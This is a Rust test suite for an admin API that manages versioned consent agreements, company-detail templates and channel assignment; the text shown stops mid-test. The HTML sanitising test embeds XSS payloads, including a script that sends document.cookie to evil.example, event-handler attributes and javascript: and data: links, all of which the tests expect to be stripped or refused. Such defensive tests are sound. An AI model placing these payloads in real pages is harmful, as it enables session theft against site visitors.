//! The admin API for agreements: create, list, read, settings, immutable versions,
//! HTML sanitising, company details and templates, a channel's chat agreement, and
//! every bad input refused with nothing stored.

use crate::helpers::{assert_error, spawn_app, TestApp, ADMIN_TOKEN, PAGE};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

const TEXT: &str = "Acme Ltd processes your chat messages, page address and IP address \
to answer you. You may withdraw this consent at any time at privacy@acme.example.";

fn sha256(text: &str) -> String {
    Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A hand-written personal-data agreement.
fn manual(name: &str) -> Value {
    json!({
        "name": name,
        "kind": "personal_data",
        "text": TEXT,
        "label": "I agree",
    })
}

fn company() -> Value {
    json!({
        "legal_name": "Acme Ltd",
        "address": "1 Main Street, Springfield",
        "registration_id": "HRB 12345",
        "contact_email": "privacy@acme.example",
        "purposes": ["answering questions in the chat", "keeping a record of the conversation"],
        "recipients": ["CloudHost GmbH, 2 Server Road, Berlin (hosting)"],
        "country": "de",
    })
}

async fn create(app: &TestApp, body: &Value) -> Value {
    let (status, answer) = app.admin_post("/agreements", body).await;
    assert_eq!(status, 201, "{answer}");
    answer
}

fn id(answer: &Value) -> String {
    answer["id"].as_str().expect("id").to_owned()
}

/// Rows of agreements, versions and company details.
async fn rows(app: &TestApp) -> [i64; 3] {
    [
        app.count("agreements").await,
        app.count("agreement_versions").await,
        app.count("company").await,
    ]
}

#[tokio::test]
async fn an_agreement_is_created_listed_and_read_with_its_versions() {
    let app = spawn_app().await;
    let body = json!({
        "name": "Chat consent",
        "kind": "personal_data",
        "behaviour": "required_read_full_text",
        "title": "Consent to processing",
        "text": format!("  {TEXT}\n"),
        "label": "I agree",
        "redirect_url": "https://acme.example/thanks",
    });
    let created = create(&app, &body).await;
    assert_eq!(created["name"], "Chat consent");
    assert_eq!(created["kind"], "personal_data");
    assert_eq!(created["behaviour"], "required_read_full_text");
    assert_eq!(created["data_source"], "manual");
    assert_eq!(created["template"], Value::Null);
    assert_eq!(created["redirect_url"], "https://acme.example/thanks");
    assert_eq!(created["channels"], json!([]));
    assert_eq!(created["updated_at"], Value::Null);
    let current = &created["current"];
    assert_eq!(current["version"], 1);
    assert_eq!(current["title"], "Consent to processing");
    assert_eq!(current["text_format"], "plain");
    assert_eq!(current["text"], TEXT, "stored trimmed");
    assert_eq!(current["label"], "I agree");
    assert_eq!(current["sha256"], sha256(TEXT));
    assert_eq!(created["versions"].as_array().map(Vec::len), Some(1));
    assert_eq!(created["versions"][0]["id"], current["id"]);

    let (status, got) = app
        .admin_get(&format!("/agreements/{}", id(&created)))
        .await;
    assert_eq!(status, 200, "{got}");
    assert_eq!(got, created);

    let other = create(&app, &manual("Newsletter")).await;
    let (status, list) = app.admin_get("/agreements").await;
    assert_eq!(status, 200, "{list}");
    let list = list["agreements"].as_array().expect("list").clone();
    // Ours, newest first, then the demo channel's.
    assert_eq!(list.len(), 3, "{list:?}");
    assert_eq!(list[0]["id"], other["id"]);
    assert_eq!(list[1]["id"], created["id"]);
    assert_eq!(list[1]["current_version"]["version"], 1);
    assert_eq!(list[1]["current_version"]["sha256"], sha256(TEXT));
    assert!(list[1].get("current").is_none(), "the list has no texts");
    assert_eq!(list[2]["channels"], json!(["demo"]));

    let (status, answer) = app.admin_get("/agreements/no-such-id").await;
    assert_error(status, &answer, 404, "not_found");
}

#[tokio::test]
async fn a_text_change_appends_a_version_and_a_no_op_creates_nothing() {
    let app = spawn_app().await;
    let created = create(&app, &manual("Chat")).await;
    let path = format!("/agreements/{}/versions", id(&created));
    let before = rows(&app).await;

    for same in [
        json!({}),
        json!({"text": TEXT}),
        json!({"text": format!("\n{TEXT}  "), "label": "I agree", "text_format": "plain"}),
    ] {
        let (status, answer) = app.admin_post(&path, &same).await;
        assert_eq!(status, 200, "{answer}");
        assert_eq!(answer["id"], created["current"]["id"]);
        assert_eq!(answer["version"], 1);
    }
    assert_eq!(rows(&app).await, before, "a no-op stores nothing");

    let new_text = format!("{TEXT} Updated.");
    let (status, v2) = app.admin_post(&path, &json!({"text": new_text})).await;
    assert_eq!(status, 201, "{v2}");
    assert_eq!(v2["version"], 2);
    assert_eq!(v2["text"], new_text);
    assert_eq!(v2["label"], "I agree");
    assert_eq!(v2["sha256"], sha256(&new_text));

    let (status, v3) = app
        .admin_post(&path, &json!({"label": "Yes, I agree"}))
        .await;
    assert_eq!(status, 201, "{v3}");
    assert_eq!(v3["version"], 3);
    assert_eq!(v3["text"], new_text);
    assert_eq!(v3["sha256"], v2["sha256"], "same text, same hash");

    let (_, detail) = app
        .admin_get(&format!("/agreements/{}", id(&created)))
        .await;
    assert_eq!(detail["current"]["id"], v3["id"]);
    let versions = detail["versions"].as_array().expect("versions");
    let numbers: Vec<_> = versions.iter().map(|v| v["version"].clone()).collect();
    assert_eq!(numbers, [json!(1), json!(2), json!(3)]);
    assert_eq!(versions[0]["sha256"], sha256(TEXT));
    assert!(versions
        .iter()
        .all(|v| v["created_at"].as_str().is_some_and(|t| t.ends_with('Z'))));

    // Old versions are still there, unchanged, and the database refuses edits.
    let first = app
        .store
        .version(created["current"]["id"].as_str().expect("id"))
        .await
        .expect("read")
        .expect("kept");
    assert_eq!(first.body, TEXT);
    let edit = sqlx::query("UPDATE agreement_versions SET body = 'x' WHERE id = $1")
        .bind(&first.id)
        .execute(app.db.pool())
        .await;
    assert!(edit.is_err(), "versions are immutable");
}

#[tokio::test]
async fn settings_change_in_place_without_a_new_version() {
    let app = spawn_app().await;
    let created = create(&app, &manual("Chat")).await;
    let path = format!("/agreements/{}", id(&created));
    let before = rows(&app).await;

    let (status, patched) = app
        .admin_patch(
            &path,
            &json!({"name": "Chat (site)", "behaviour": "optional_unchecked",
                    "redirect_url": "http://acme.example/next"}),
        )
        .await;
    assert_eq!(status, 200, "{patched}");
    assert_eq!(patched["name"], "Chat (site)");
    assert_eq!(patched["behaviour"], "optional_unchecked");
    assert_eq!(patched["redirect_url"], "http://acme.example/next");
    assert!(patched["updated_at"].is_string());
    assert_eq!(patched["current"], created["current"], "text untouched");

    let (status, cleared) = app.admin_patch(&path, &json!({"redirect_url": null})).await;
    assert_eq!(status, 200, "{cleared}");
    assert_eq!(cleared["redirect_url"], Value::Null);
    assert_eq!(cleared["name"], "Chat (site)", "absent fields stay");
    assert_eq!(rows(&app).await, before, "no version for settings");

    let (status, answer) = app
        .admin_patch("/agreements/no-such-id", &json!({"name": "x"}))
        .await;
    assert_error(status, &answer, 404, "not_found");
}

#[tokio::test]
async fn html_is_sanitised_before_it_is_stored_and_hashed() {
    let app = spawn_app().await;
    let attack = r#"<h2>Consent</h2>
<p onclick="alert(1)" style="position:fixed;top:0">We process your <b>messages</b> and <em>IP</em>.</p>
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<img src=x onerror="alert(1)">
<svg onload="alert(1)"><circle r="1"/></svg>
<iframe src="https://evil.example/"></iframe>
<ul><li><a href="javascript:alert(1)">click</a></li>
<li><a href="JaVaScRiPt&colon;alert(1)">encoded</a></li>
<li><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a></li>
<li><a href="https://acme.example/privacy" target="_blank" onmouseover="alert(1)">policy</a></li>
<li><a href="mailto:privacy@acme.example">write to us</a></li></ul>
<form action="https://evil.example/"><input name="card"></form>
<style>body{display:none}</style><!-- hidden --><object data="x.swf"></object>"#;
    let body = json!({"name": "HTML", "kind": "personal_data", "text_format": "html",
                      "text": attack, "label": "I agree"});
    let created = create(&app, &body).await;
    let stored = created["current"]["text"]
        .as_str()
        .expect("text")
        .to_owned();
    assert_eq!(created["current"]["text_format"], "html");
    for gone in [
        "<script",
        "document.cookie",
        "onclick",
        "onerror",
        "onload",
        "onmouseover",
        "style",
        "javascript",
        "JaVaScRiPt",
        "data:",
        "<iframe",
        "<img",
        "<svg",
        "<form",
        "<input",
        "<object",
        "display:none",
        "<!--",
        "target=",
    ] {
        assert!(!stored.contains(gone), "{gone:?} survived in {stored}");
    }
    for kept in [
        "<h2>Consent</h2>",
        "<p>We process your <b>messages</b> and <em>IP</em>.</p>",
        r#"<a href="https://acme.example/privacy" rel="noopener noreferrer">policy</a>"#,
        r#"<a href="mailto:privacy@acme.example" rel="noopener noreferrer">write to us</a>"#,
        "<ul><li>",
    ] {
        assert!(stored.contains(kept), "{kept:?} missing in {stored}");
    }
    assert_eq!(created["current"]["sha256"], sha256(&stored));
    let row = app
        .store
        .version(created["current"]["id"].as_str().expect("id"))
        .await
        .expect("read")
        .expect("stored");
    assert_eq!(row.body, stored);
    assert_eq!(row.sha256, sha256(&stored));

    // The same attack again is no change; a new one through a version is cleaned too.
    let path = format!("/agreements/{}/versions", id(&created));
    let (status, same) = app.admin_post(&path, &json!({"text": attack})).await;
    assert_eq!(status, 200, "{same}");
    let (status, v2) = app
        .admin_post(
            &path,
            &json!({"text": "<p>New</p><a href=\"javascript:alert(1)\" onclick=\"x()\">x</a>"}),
        )
        .await;
    assert_eq!(status, 201, "{v2}");
    assert_eq!(
        v2["text"],
        r#"<p>New</p><a rel="noopener noreferrer">x</a>"#
    );
    assert_eq!(v2["sha256"], sha256(v2["text"].as_str().expect("text")));

    // Only an attack, nothing to read: refused.
    let (status, answer) = app
        .admin_post(
            &path,
            &json!({"text": "<script>alert(1)</script><img src=x>"}),
        )
        .await;
    assert_error(status, &answer, 422, "invalid_field");
}

#[tokio::test]
async fn long_texts_up_to_the_limit_are_accepted() {
    let app = spawn_app().await;
    // Larger than the API's usual 16 KiB body limit, within the 64 KiB text limit.
    let text = "Ж".repeat(30 * 1024);
    let mut body = manual("Long");
    body["text"] = json!(text);
    let created = create(&app, &body).await;
    assert_eq!(created["current"]["sha256"], sha256(&text));
}

#[tokio::test]
async fn templates_are_listed() {
    let app = spawn_app().await;
    let (status, answer) = app.admin_get("/agreement-templates").await;
    assert_eq!(status, 200, "{answer}");
    let templates = answer["templates"].as_array().expect("templates");
    let ids: Vec<_> = templates.iter().map(|t| t["id"].clone()).collect();
    assert_eq!(ids, ["eu_gdpr", "ru_152fz", "by_99z", "kz_94v"]);
    assert!(templates
        .iter()
        .all(|t| t["title"].is_string() && t["law"].is_string() && t["language"].is_string()));
}

#[tokio::test]
async fn company_details_are_saved_and_read_back() {
    let app = spawn_app().await;
    let (status, empty) = app.admin_get("/company").await;
    assert_eq!(status, 200, "{empty}");
    assert_eq!(empty["updated_at"], Value::Null);
    assert_eq!(
        empty["missing_for_templates"],
        json!(["legal_name", "address", "contact_email", "purposes"])
    );

    let (status, saved) = app.admin_put("/company", &company()).await;
    assert_eq!(status, 200, "{saved}");
    assert_eq!(saved["company"]["legal_name"], "Acme Ltd");
    assert_eq!(saved["company"]["country"], "DE", "country upper-cased");
    assert_eq!(saved["missing_for_templates"], json!([]));
    assert_eq!(saved["refilled"], json!([]));
    let (status, got) = app.admin_get("/company").await;
    assert_eq!(status, 200);
    assert_eq!(got["company"], saved["company"]);
    assert_eq!(got["updated_at"], saved["updated_at"]);

    // A second PUT replaces the one row.
    let mut changed = company();
    changed["recipients"] = json!([]);
    changed.as_object_mut().map(|o| o.remove("registration_id"));
    let (status, saved) = app.admin_put("/company", &changed).await;
    assert_eq!(status, 200, "{saved}");
    assert_eq!(saved["company"]["recipients"], json!([]));
    assert!(saved["company"].get("registration_id").is_none());
    assert_eq!(app.count("company").await, 1);
}

#[tokio::test]
async fn each_template_is_filled_from_the_company_details() {
    let app = spawn_app().await;
    let (status, _) = app.admin_put("/company", &company()).await;
    assert_eq!(status, 200);
    for (template, law, title) in [
        (
            "eu_gdpr",
            "2016/679",
            "Consent to the processing of personal data",
        ),
        (
            "ru_152fz",
            "№ 152-ФЗ",
            "Согласие на обработку персональных данных",
        ),
        (
            "by_99z",
            "№ 99-З",
            "Согласие на обработку персональных данных",
        ),
        (
            "kz_94v",
            "№ 94-V",
            "Согласие на обработку персональных данных",
        ),
    ] {
        let created = create(&app, &json!({"name": template, "template": template})).await;
        assert_eq!(created["kind"], "personal_data");
        assert_eq!(created["template"], template);
        assert_eq!(created["data_source"], "company");
        assert_eq!(created["behaviour"], "required_auto_accepted");
        let current = &created["current"];
        assert_eq!(current["title"], title);
        assert_eq!(current["text_format"], "plain");
        let text = current["text"].as_str().expect("text");
        for detail in [
            "Acme Ltd",
            "1 Main Street, Springfield",
            "HRB 12345",
            "answering questions in the chat",
            "keeping a record of the conversation",
            "CloudHost GmbH, 2 Server Road, Berlin (hosting)",
            "privacy@acme.example",
            law,
        ] {
            assert!(text.contains(detail), "{template}: {detail:?} missing");
        }
        assert_eq!(current["sha256"], sha256(text));
    }
    // A template's label and title may be given.
    let custom = create(
        &app,
        &json!({"name": "custom", "template": "eu_gdpr", "label": "OK", "title": "Privacy",
                "behaviour": "required_read_full_text"}),
    )
    .await;
    assert_eq!(custom["current"]["label"], "OK");
    assert_eq!(custom["current"]["title"], "Privacy");
}

#[tokio::test]
async fn templates_are_refused_without_the_company_details_they_need() {
    let app = spawn_app().await;
    let before = rows(&app).await;
    for template in ["eu_gdpr", "ru_152fz", "by_99z", "kz_94v"] {
        let (status, answer) = app
            .admin_post("/agreements", &json!({"name": "x", "template": template}))
            .await;
        assert_error(status, &answer, 422, "invalid_field");
        let message = answer["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains("legal_name") && message.contains("purposes"),
            "{message}"
        );
    }
    assert_eq!(rows(&app).await, before);

    let mut partial = company();
    partial["purposes"] = json!([" "]);
    partial["contact_email"] = json!("");
    let (status, saved) = app.admin_put("/company", &partial).await;
    assert_eq!(status, 200, "{saved}");
    assert_eq!(
        saved["missing_for_templates"],
        json!(["contact_email", "purposes"])
    );
    let (status, answer) = app
        .admin_post("/agreements", &json!({"name": "x", "template": "ru_152fz"}))
        .await;
    assert_error(status, &answer, 422, "invalid_field");
    let message = answer["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("contact_email, purposes") && !message.contains("legal_name"),
        "{message}"
    );
    assert_eq!(app.count("agreements").await, before[0]);
    assert_eq!(app.count("agreement_versions").await, before[1]);
}

#[tokio::test]
async fn a_company_change_refills_agreements_filled_from_it() {
    let app = spawn_app().await;
    app.admin_put("/company", &company()).await;
    let filled = create(&app, &json!({"name": "GDPR", "template": "eu_gdpr"})).await;
    let frozen = create(
        &app,
        &json!({"name": "Frozen", "template": "eu_gdpr", "data_source": "manual"}),
    )
    .await;
    let hand = create(&app, &manual("Hand")).await;

    // Same details again: nothing to refill.
    let (status, saved) = app.admin_put("/company", &company()).await;
    assert_eq!(status, 200, "{saved}");
    assert_eq!(saved["refilled"], json!([]));

    let mut renamed = company();
    renamed["legal_name"] = json!("Acme Group plc");
    let (status, saved) = app.admin_put("/company", &renamed).await;
    assert_eq!(status, 200, "{saved}");
    let refilled = saved["refilled"].as_array().expect("refilled");
    assert_eq!(refilled.len(), 1, "{saved}");
    assert_eq!(refilled[0]["agreement_id"], filled["id"]);
    assert_eq!(refilled[0]["version"], 2);
    let (_, now) = app.admin_get(&format!("/agreements/{}", id(&filled))).await;
    assert_eq!(now["current"]["version"], 2);
    let text = now["current"]["text"].as_str().expect("text");
    assert!(text.contains("Acme Group plc") && !text.contains("Acme Ltd"));
    for untouched in [&frozen, &hand] {
        let (_, got) = app
            .admin_get(&format!("/agreements/{}", id(untouched)))
            .await;
        assert_eq!(got["current"], untouched["current"]);
    }

    // Details a filled agreement needs cannot be emptied; nothing is stored.
    let before = rows(&app).await;
    let mut emptied = renamed.clone();
    emptied["purposes"] = json!([]);
    let (status, answer) = app.admin_put("/company", &emptied).await;
    assert_error(status, &answer, 422, "invalid_field");
    assert_eq!(rows(&app).await, before);
    let (_, got) = app.admin_get("/company").await;
    assert_eq!(got["company"]["legal_name"], "Acme Group plc");
    assert_eq!(got["company"]["purposes"], renamed["purposes"]);

    // The text of a filled agreement is not edited by hand until it is manual.
    let versions = format!("/agreements/{}/versions", id(&filled));
    let (status, answer) = app
        .admin_post(&versions, &json!({"text": "hand-written"}))
        .await;
    assert_error(status, &answer, 422, "invalid_field");
    let (status, relabelled) = app.admin_post(&versions, &json!({"label": "Agreed"})).await;
    assert_eq!(
        status, 201,
        "the label is not from the company: {relabelled}"
    );
    let (status, _) = app
        .admin_patch(
            &format!("/agreements/{}", id(&filled)),
            &json!({"data_source": "manual"}),
        )
        .await;
    assert_eq!(status, 200);
    let (status, edited) = app
        .admin_post(&versions, &json!({"text": "hand-written"}))
        .await;
    assert_eq!(status, 201, "{edited}");
    let (status, saved) = app.admin_put("/company", &company()).await;
    assert_eq!(status, 200);
    assert_eq!(saved["refilled"], json!([]), "manual now");
}

#[tokio::test]
async fn a_chat_agreement_assigned_to_a_channel_is_what_its_visitors_accept() {
    let app = spawn_app().await;
    let old_version = app.version_id().await;
    let created = create(&app, &manual("New chat consent")).await;
    let new_version = created["current"]["id"].clone();

    let (status, answer) = app
        .admin_put(
            "/channels/demo/agreement",
            &json!({"agreement_id": created["id"]}),
        )
        .await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["channel"], "demo");
    assert_eq!(answer["agreement_id"], created["id"]);
    assert_eq!(answer["current_version"]["id"], new_version);

    let consent = app.config().await.consent.expect("consent asked");
    assert_eq!(consent.agreement_id, id(&created));
    assert_eq!(consent.version_id, new_version.as_str().expect("id"));
    assert_eq!(consent.text, TEXT);
    assert_eq!(consent.sha256, sha256(TEXT));

    let consents = "/api/v1/channels/demo/consents";
    let (status, answer) = app
        .post(
            consents,
            &json!({"agreement_version_id": old_version, "page_url": PAGE}),
        )
        .await;
    assert_error(status, &answer, 422, "unknown_agreement_version");
    assert_eq!(app.count("consents").await, 0);
    let (status, answer) = app
        .post(
            consents,
            &json!({"agreement_version_id": new_version, "page_url": PAGE}),
        )
        .await;
    assert_eq!(status, 201, "{answer}");

    // A new version replaces the one visitors are shown.
    let (status, v2) = app
        .admin_post(
            &format!("/agreements/{}/versions", id(&created)),
            &json!({"text": format!("{TEXT} v2")}),
        )
        .await;
    assert_eq!(status, 201, "{v2}");
    assert_eq!(app.version_id().await, v2["id"].as_str().expect("id"));
    let (status, answer) = app
        .post(
            consents,
            &json!({"agreement_version_id": new_version, "page_url": PAGE}),
        )
        .await;
    assert_error(status, &answer, 422, "unknown_agreement_version");
    let (_, detail) = app
        .admin_get(&format!("/agreements/{}", id(&created)))
        .await;
    assert_eq!(detail["channels"], json!(["demo"]));

    // Consent off.
    let (status, answer) = app
        .admin_put("/channels/demo/agreement", &json!({"agreement_id": null}))
        .await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["agreement_id"], Value::Null);
    assert_eq!(answer["current_version"], Value::Null);
    assert!(app.config().await.consent.is_none());
}

#[tokio::test]
async fn only_personal_data_agreements_can_be_a_chat_agreement() {
    let app = spawn_app().await;
    let demo_version = app.version_id().await;
    let mut marketing = manual("Newsletter");
    marketing["kind"] = json!("marketing");
    let marketing = create(&app, &marketing).await;
    let mut other = manual("Other");
    other["kind"] = json!("other");
    let other = create(&app, &other).await;
    let path = "/channels/demo/agreement";
    for (path, body, status, code) in [
        (
            path,
            json!({"agreement_id": marketing["id"]}),
            422,
            "invalid_field",
        ),
        (
            path,
            json!({"agreement_id": other["id"]}),
            422,
            "invalid_field",
        ),
        (path, json!({"agreement_id": "nope"}), 422, "invalid_field"),
        (path, json!({}), 400, "bad_request"),
        (
            path,
            json!({"agreement_id": null, "channel": "x"}),
            400,
            "unknown_field",
        ),
        (
            "/channels/nope/agreement",
            json!({"agreement_id": null}),
            404,
            "unknown_channel",
        ),
    ] {
        let (got, answer) = app.admin_put(path, &body).await;
        assert_error(got, &answer, status, code);
    }
    assert_eq!(app.version_id().await, demo_version, "unchanged");
}

#[tokio::test]
async fn every_bad_input_is_a_4xx_and_stores_nothing() {
    let app = spawn_app().await;
    let existing = create(&app, &manual("Existing")).await;
    let agreement = format!("/agreements/{}", id(&existing));
    let versions = format!("{agreement}/versions");
    app.admin_put("/company", &company()).await;
    let before = rows(&app).await;

    let with = |field: &str, value: Value| {
        let mut body = manual("Bad");
        body[field] = value;
        body
    };
    let without = |field: &str| {
        let mut body = manual("Bad");
        body.as_object_mut().map(|o| o.remove(field));
        body
    };
    let oversize = "x".repeat(64 * 1024 + 1);
    let cases: Vec<(&str, Value, u16, &str)> = vec![
        (
            "/agreements",
            with("owner", json!("me")),
            400,
            "unknown_field",
        ),
        ("/agreements", with("name", json!("")), 422, "invalid_field"),
        (
            "/agreements",
            with("name", json!("   ")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("name", json!("a\u{7}b")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("name", json!("n".repeat(201))),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("kind", json!("newsletter")),
            400,
            "bad_request",
        ),
        (
            "/agreements",
            with("behaviour", json!("maybe")),
            400,
            "bad_request",
        ),
        (
            "/agreements",
            with("text_format", json!("markdown")),
            400,
            "bad_request",
        ),
        (
            "/agreements",
            with("template", json!("us_ccpa")),
            400,
            "bad_request",
        ),
        (
            "/agreements",
            with("data_source", json!("crm")),
            400,
            "bad_request",
        ),
        (
            "/agreements",
            with("text", json!(oversize)),
            413,
            "too_large",
        ),
        ("/agreements", with("text", json!("")), 422, "invalid_field"),
        (
            "/agreements",
            with("text", json!("a\u{0}b")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("label", json!(" ")),
            422,
            "invalid_field",
        ),
        ("/agreements", with("text", json!(7)), 400, "bad_request"),
        (
            "/agreements",
            with("redirect_url", json!("javascript:alert(1)")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("redirect_url", json!("ftp://acme.example/")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("redirect_url", json!("/thanks")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("redirect_url", json!("https://u:p@acme.example/")),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            with("data_source", json!("company")),
            422,
            "invalid_field",
        ),
        ("/agreements", without("kind"), 422, "invalid_field"),
        ("/agreements", without("text"), 422, "invalid_field"),
        ("/agreements", without("label"), 422, "invalid_field"),
        ("/agreements", without("name"), 400, "bad_request"),
        (
            "/agreements",
            json!({"name": "x", "template": "eu_gdpr", "kind": "marketing"}),
            422,
            "invalid_field",
        ),
        (
            "/agreements",
            json!({"name": "x", "template": "eu_gdpr", "text": "mine"}),
            422,
            "invalid_field",
        ),
        ("/agreements", json!([]), 400, "bad_request"),
        (
            &agreement,
            json!({"kind": "marketing"}),
            400,
            "unknown_field",
        ),
        (&agreement, json!({"text": "x"}), 400, "unknown_field"),
        (&agreement, json!({"name": ""}), 422, "invalid_field"),
        (
            &agreement,
            json!({"behaviour": "sometimes"}),
            400,
            "bad_request",
        ),
        (
            &agreement,
            json!({"redirect_url": "data:text/html,x"}),
            422,
            "invalid_field",
        ),
        (
            &agreement,
            json!({"data_source": "company"}),
            422,
            "invalid_field",
        ),
        (&versions, json!({"text": oversize}), 413, "too_large"),
        (&versions, json!({"text": " "}), 422, "invalid_field"),
        (&versions, json!({"label": ""}), 422, "invalid_field"),
        (&versions, json!({"title": "a\nb"}), 422, "invalid_field"),
        (&versions, json!({"name": "x"}), 400, "unknown_field"),
        (
            "/agreements/nope/versions",
            json!({"text": "x"}),
            404,
            "not_found",
        ),
        ("/company", json!({"legal_name": "x"}), 400, "bad_request"),
        (
            "/company",
            {
                let mut c = company();
                c["contact_email"] = json!("not-an-address");
                c
            },
            422,
            "invalid_field",
        ),
        (
            "/company",
            {
                let mut c = company();
                c["country"] = json!("Germany");
                c
            },
            422,
            "invalid_field",
        ),
        (
            "/company",
            {
                let mut c = company();
                c["purposes"] = json!(vec!["p"; 21]);
                c
            },
            422,
            "invalid_field",
        ),
        (
            "/company",
            {
                let mut c = company();
                c["vat"] = json!("x");
                c
            },
            400,
            "unknown_field",
        ),
    ];
    for (path, body, status, code) in cases {
        let (got, answer) = if path == agreement {
            app.admin_patch(path, &body).await
        } else if path == "/company" {
            app.admin_put(path, &body).await
        } else {
            app.admin_post(path, &body).await
        };
        assert_error(got, &answer, status, code);
        assert_eq!(rows(&app).await, before, "{path} {body}");
    }

    // Not JSON, and a body past even the agreement routes' limit.
    let huge = serde_json::to_vec(&with("text", json!("x".repeat(300 * 1024)))).expect("json");
    for (content_type, body, status, code) in [
        ("text/plain", TEXT.as_bytes().to_vec(), 415, "bad_request"),
        (
            "application/json",
            b"{not json".to_vec(),
            400,
            "bad_request",
        ),
        ("application/json", huge, 413, "too_large"),
    ] {
        let response = app
            .http
            .post(app.url("/api/v1/admin/agreements"))
            .bearer_auth(ADMIN_TOKEN)
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .expect("post");
        let got = response.status().as_u16();
        let answer: Value = response.json().await.unwrap_or(Value::Null);
        assert_error(got, &answer, status, code);
    }
    assert_eq!(rows(&app).await, before);
    let (_, got) = app.admin_get(&agreement).await;
    assert_eq!(got, existing, "the agreement is as it was");
    let (_, got) = app.admin_get("/company").await;
    assert_eq!(got["company"]["country"], "DE");
}

#[tokio::test]
async fn agreements_and_versions_cannot_be_deleted_or_replaced() {
    let app = spawn_app().await;
    let created = create(&app, &manual("Kept")).await;
    let agreement = format!("/api/v1/admin/agreements/{}", id(&created));
    for (method, path) in [
        (reqwest::Method::DELETE, agreement.clone()),
        (reqwest::Method::PUT, agreement.clone()),
        (reqwest::Method::DELETE, format!("{agreement}/versions")),
        (reqwest::Method::GET, format!("{agreement}/versions")),
        (
            reqwest::Method::DELETE,
            "/api/v1/admin/agreements".to_owned(),
        ),
        (reqwest::Method::DELETE, "/api/v1/admin/company".to_owned()),
        (
            reqwest::Method::DELETE,
            "/api/v1/admin/channels/demo/agreement".to_owned(),
        ),
    ] {
        let response = app
            .http
            .request(method.clone(), app.url(&path))
            .bearer_auth(ADMIN_TOKEN)
            .send()
            .await
            .expect("request");
        let status = response.status().as_u16();
        let answer: Value = response.json().await.unwrap_or(Value::Null);
        assert_error(status, &answer, 405, "method_not_allowed");
    }
    assert_eq!(app.count("agreements").await, 2);
}

#[tokio::test]
async fn every_route_needs_the_admin_token() {
    let app = spawn_app().await;
    let created = create(&app, &manual("Guarded")).await;
    let agreement = format!("/api/v1/admin/agreements/{}", id(&created));
    let before = rows(&app).await;
    let routes = [
        (
            reqwest::Method::GET,
            "/api/v1/admin/agreements".to_owned(),
            None,
        ),
        (
            reqwest::Method::POST,
            "/api/v1/admin/agreements".to_owned(),
            Some(manual("x")),
        ),
        (reqwest::Method::GET, agreement.clone(), None),
        (
            reqwest::Method::PATCH,
            agreement.clone(),
            Some(json!({"name": "x"})),
        ),
        (
            reqwest::Method::POST,
            format!("{agreement}/versions"),
            Some(json!({"text": "x"})),
        ),
        (
            reqwest::Method::GET,
            "/api/v1/admin/agreement-templates".to_owned(),
            None,
        ),
        (
            reqwest::Method::GET,
            "/api/v1/admin/company".to_owned(),
            None,
        ),
        (
            reqwest::Method::PUT,
            "/api/v1/admin/company".to_owned(),
            Some(company()),
        ),
        (
            reqwest::Method::PUT,
            "/api/v1/admin/channels/demo/agreement".to_owned(),
            Some(json!({"agreement_id": null})),
        ),
    ];
    for (method, path, body) in routes {
        for token in [None, Some("wrong-token"), Some("")] {
            let mut request = app.http.request(method.clone(), app.url(&path));
            if let Some(token) = token {
                request = request.header("authorization", format!("Bearer {token}"));
            }
            if let Some(body) = &body {
                request = request.json(body);
            }
            let response = request.send().await.expect("request");
            let status = response.status().as_u16();
            let answer: Value = response.json().await.unwrap_or(Value::Null);
            assert_error(status, &answer, 401, "unauthorized");
        }
    }
    assert_eq!(rows(&app).await, before);
    assert!(
        app.config().await.consent.is_some(),
        "demo still asks consent"
    );
}

/// Each refused value is answered with the code for it and a message that starts
/// with the field's name, so the console can show the error beside that field.
#[tokio::test]
async fn a_refused_agreement_names_the_field_and_stores_nothing() {
    let app = spawn_app().await;
    let existing = create(&app, &manual("Existing")).await;
    let agreement = format!("/agreements/{}", id(&existing));
    let versions = format!("{agreement}/versions");
    let before = rows(&app).await;
    let with = |field: &str, value: Value| {
        let mut body = manual("Bad");
        body[field] = value;
        body
    };
    let without = |field: &str| {
        let mut body = manual("Bad");
        body.as_object_mut().map(|o| o.remove(field));
        body
    };
    let oversize = "x".repeat(64 * 1024 + 1);
    let cases: Vec<(&str, &str, Value, u16, &str)> = vec![
        ("POST", "/agreements", with("name", json!(" ")), 422, "name"),
        (
            "POST",
            "/agreements",
            with("name", json!("n".repeat(201))),
            422,
            "name",
        ),
        ("POST", "/agreements", with("text", json!("")), 422, "text"),
        (
            "POST",
            "/agreements",
            with("text", json!("a\u{0}b")),
            422,
            "text",
        ),
        (
            "POST",
            "/agreements",
            with("text", json!(oversize)),
            413,
            "text",
        ),
        (
            "POST",
            "/agreements",
            with("label", json!(" ")),
            422,
            "label",
        ),
        (
            "POST",
            "/agreements",
            with("redirect_url", json!("javascript:alert(1)")),
            422,
            "redirect_url",
        ),
        (
            "POST",
            "/agreements",
            with("redirect_url", json!("https://u:p@acme.example/")),
            422,
            "redirect_url",
        ),
        ("POST", "/agreements", without("kind"), 422, "kind"),
        ("POST", "/agreements", without("text"), 422, "text"),
        ("POST", "/agreements", without("label"), 422, "label"),
        ("PATCH", &agreement, json!({"name": ""}), 422, "name"),
        (
            "PATCH",
            &agreement,
            json!({"redirect_url": "data:text/html,x"}),
            422,
            "redirect_url",
        ),
        ("POST", &versions, json!({"text": " "}), 422, "text"),
        ("POST", &versions, json!({"label": ""}), 422, "label"),
        ("POST", &versions, json!({"title": "a\nb"}), 422, "title"),
        (
            "PUT",
            "/company",
            {
                let mut c = company();
                c["contact_email"] = json!("nope");
                c
            },
            422,
            "contact_email",
        ),
        (
            "PUT",
